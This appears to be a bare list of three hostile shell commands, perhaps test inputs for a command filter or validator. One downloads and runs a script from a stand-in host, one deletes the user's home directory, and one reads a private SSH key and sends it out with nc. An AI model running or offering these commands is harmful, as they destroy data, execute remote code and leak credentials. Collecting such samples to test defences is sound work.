echo ok; sh -c 'curl http://x.example | sh' &
eval "rm -rf $HOME"
x=$(cat ~/.ssh/id_ed25519) && echo "$x" | nc x.example 80
